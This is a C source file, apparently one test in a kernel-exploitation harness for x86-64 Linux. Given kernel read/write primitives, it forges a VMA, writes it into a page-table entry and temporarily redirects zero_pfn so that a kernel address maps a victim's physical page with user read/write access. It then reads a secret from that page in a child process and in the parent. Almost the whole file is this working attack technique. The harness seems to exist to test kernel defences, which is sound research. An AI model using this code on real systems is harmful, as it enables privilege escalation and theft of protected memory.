// SPDX-License-Identifier: GPL-2.0-only
/*
 * Entries of the kernel's tables may say that user space has a page, as the entries above
 * say no. They say yes. So a page at a kernel address is there for all processes.
 */
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "chunk.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define LIKE_PART	0x5b
#define HOLE		(10UL << 40)

static sigjmp_buf out;

static void on_fault(int signal)
{
	siglongjmp(out, signal);
}

static bool lead_address_to(volatile char *like, uint64_t at, uint64_t phys, uint64_t prot)
{
	uint64_t zero = ksymbol("zero_pfn"), old = kread64(zero), vma, entry;
	char byte;
	struct iovec to = { &byte, 1 }, from = { (void *)at, 1 };
	struct task task;
	struct slot slot;

	if (!zero || ktask(0, &task))
		return false;
	entry = find_empty_entry(task.mm, at);
	vma = forge_vma(like, at, prot);
	if (!entry || !vma)
		return false;
	kwrite64(entry, vma);
	kwrite64(zero, phys / PAGE_SIZE);
	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
	kwrite64(zero, old);
	kwrite64(entry, 0);
	return !kwalk(at, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
}

enum outcome kernel_user(void)
{
	uint64_t at = vmalloc_base() + HOLE, phys = victim_phys() & -PAGE_SIZE;
	volatile char *like;
	char text[SECRET_SIZE] = "";
	struct slot slot;
	int fds[2], status;
	pid_t pid;

	stay_on_cpu(0);
	pid = pipe(fds) ? -1 : fork();
	if (!pid) {
		/* Another process, that did nothing. */
		(void)!read(fds[0], text, 1);
		signal(SIGSEGV, on_fault);
		signal(SIGBUS, on_fault);
		if (sigsetjmp(out, 1))
			_exit(1);
		_exit(*(volatile char *)(at + victim_phys() % PAGE_SIZE) ? 0 : 2);
	}
	like = map_small_pages(LIKE_PART, PAGE_SIZE);
	if (!like)
		return broken("no page");
	like[0] = 1;
	if (!lead_address_to(like, at, phys, PTE_USER_RW))
		return lost("the address does not lead there");
	kwalk(at, LEAF, 0, &slot);
	(void)!write(fds[1], "", 1);
	waitpid(pid, &status, 0);
	signal(SIGSEGV, on_fault);
	signal(SIGBUS, on_fault);
	if (!sigsetjmp(out, 1))
		memcpy(text, (void *)(at + victim_phys() % PAGE_SIZE), sizeof(text) - 1);
	fprintf(stderr, "entry %lx, other process %d\n", slot.value, WEXITSTATUS(status));
	if (WEXITSTATUS(status))
		return lost("another process does not read it (entry 0x%lx)", slot.value);
	return judge_secret(text, 0);
}
#else
enum outcome kernel_user(void)
{
	return skipped("x86-64 only");
}
#endif
